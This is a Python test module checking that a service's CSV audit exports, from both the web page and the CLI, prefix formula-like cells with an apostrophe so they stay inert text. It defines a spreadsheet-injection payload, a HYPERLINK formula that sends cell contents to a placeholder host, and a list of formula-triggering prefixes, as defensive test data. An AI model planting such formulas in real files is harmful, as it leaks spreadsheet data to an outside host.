"""CSV cells that are never formulas (issue 17): a tenant's own SOP file names its roles, a role
name reaches the audit sentence, and a cell beginning with = + - @ (or a tab or carriage return)
would run as a formula when an auditor opens the export in a spreadsheet. Every CSV the service
or the CLI writes prefixes such a cell with `'`. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import logging
import re
import shlex

import pytest
import structlog

from adapters.cli import main
from projections.audit_export import csv_cell
from tenants.catalogue import builtin_variant
from tenants.sopfile import parse_variant
from tests.web.conftest import World, submit
from tests.web.pages_helpers import browser

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Kepala Dinas")'


def own_sop_with_a_formula_for_a_role_name() -> str:
    text = builtin_variant("sumbawa-2021").source
    text = re.sub(r"(?m)^id: sumbawa-2021$", "id: sumbawa-rumus", text)
    text = re.sub(r"(?m)^version: \d+$", "version: 1", text)
    quoted = FORMULA.replace("'", "''")
    return re.sub(r"\{id: kadis, name: [^}]*\}", "{id: kadis, name: '" + quoted + "'}", text)


def cells(text: str) -> list[str]:
    """Every cell, as Excel set to Indonesian reads the file (a BOM, then `;` between cells)."""
    assert text.startswith("\ufeff")
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";")
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_would_be_a_formula_is_kept_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_other_cells_stay_as_they_are() -> None:
    assert [csv_cell(v) for v in ("Kepala Dinas", "", 7, "a=b")] == ["Kepala Dinas", "", 7, "a=b"]


def test_the_audit_exports_of_the_page_and_the_cli_carry_no_formula(
    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    loaded = parse_variant(own_sop_with_a_formula_for_a_role_name(), "sop-rumus.yaml")
    world.platform.set_own_sop(world.a, loaded, actor="admin", reason="uji")
    request_id = submit(world)["id"]
    assert world.api("POST", f"/requests/{request_id}/steps/2", "kadis", json={}).status_code == 200
    page = browser(world, "auditor").get(f"/t/{world.a}/audit?format=csv").text
    settings = world.platform.settings
    monkeypatch.setenv("ALUR_DATA_DIR", str(settings.data_dir))
    if settings.database_url:
        monkeypatch.setenv("ALUR_DATABASE_URL", settings.database_url)
    capsys.readouterr()
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    try:
        assert main(shlex.split(f"audit --tenant {world.a} --format csv")) == 0
    finally:  # `main` configures logging for the process
        root.handlers[:], root.level = handlers, level
        structlog.reset_defaults()
    cli = capsys.readouterr().out
    for export in (page, cli):
        found = cells(export)
        assert any(cell.startswith("'" + FORMULA) for cell in found), export[:2000]
        assert not [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
